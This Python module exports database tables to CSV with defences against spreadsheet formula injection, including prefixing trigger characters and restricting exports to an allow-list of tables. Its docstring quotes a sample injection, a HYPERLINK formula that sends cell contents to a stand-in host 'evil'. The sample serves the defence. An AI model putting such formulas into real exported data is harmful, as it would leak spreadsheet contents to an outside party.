"""Warehouse tables and marts as CSV, safe to open in a spreadsheet.

Board text is attacker-controlled: a title of `=HYPERLINK("http://evil/?"&A1)` becomes a live
formula when the CSV is opened in Excel or Sheets. Following OWASP's CSV-injection guidance,
a text cell starting with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'`, and
every text cell is quoted. Numbers stay numbers: a value from a numeric column (`-5`, `-0.5`)
is written as is, and so is text that is nothing but a plain decimal number, because a
spreadsheet reads either as that number and nothing more; `-5+3` or `-A1` are prefixed.

Only the tables in `EXPORTABLE` can be exported: postings, survey answers and the marts, never
run bookkeeping, quarantine reasons or raw payload indexes.
"""

from __future__ import annotations

import csv
import json
import os
import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any, TextIO

from sqlalchemy import LargeBinary, Table, inspect, select
from sqlalchemy.engine import Engine

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")
_BATCH = 1000


def exportable_tables() -> dict[str, Table]:
    """Name -> table of everything `jobingest export` may write out."""
    from jobingest.warehouse.marts import mart_metadata, posting_table, survey_table

    tables = {"posting": posting_table, "salary_survey": survey_table}
    tables |= {t.name: t for t in mart_metadata.sorted_tables if t.name.startswith("mart_")}
    return tables


def safe_cell(value: Any) -> str | int | float:
    """One value as a CSV cell that a spreadsheet shows and never evaluates."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return value
    if isinstance(value, Decimal):
        return int(value) if value == value.to_integral_value() else float(value)
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = value if isinstance(value, str) else json.dumps(value, ensure_ascii=False)
    if text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def write_csv(rows: Iterable[Iterable[Any]], header: list[str], out: TextIO) -> int:
    """Rows (already in column order) as CSV on `out`; returns how many were written."""
    writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n")
    writer.writerow([safe_cell(name) for name in header])
    count = 0
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
        count += 1
    return count


def export_table(engine: Engine, name: str, path: Path) -> int:
    """Stream table `name` to a CSV file at `path` (written whole or not at all)."""
    tables = exportable_tables()
    table = tables.get(name)
    if table is None:
        raise ValueError(f"cannot export {name!r}; exportable: {', '.join(sorted(tables))}")
    if not inspect(engine).has_table(name):
        raise ValueError(
            f"{name} does not exist yet (marts appear after `jobingest refresh-marts`)"
        )
    columns = [c for c in table.columns if not isinstance(c.type, LargeBinary)]
    statement = select(*columns).order_by(*(table.primary_key.columns or columns[:1]))
    partial = path.with_name(f".{path.name}.part")
    try:
        with engine.connect() as connection, partial.open("w", newline="", encoding="utf-8") as out:
            result = connection.execution_options(yield_per=_BATCH).execute(statement)
            count = write_csv(result, [c.name for c in columns], out)
        os.replace(partial, path)
    finally:
        partial.unlink(missing_ok=True)
    return count
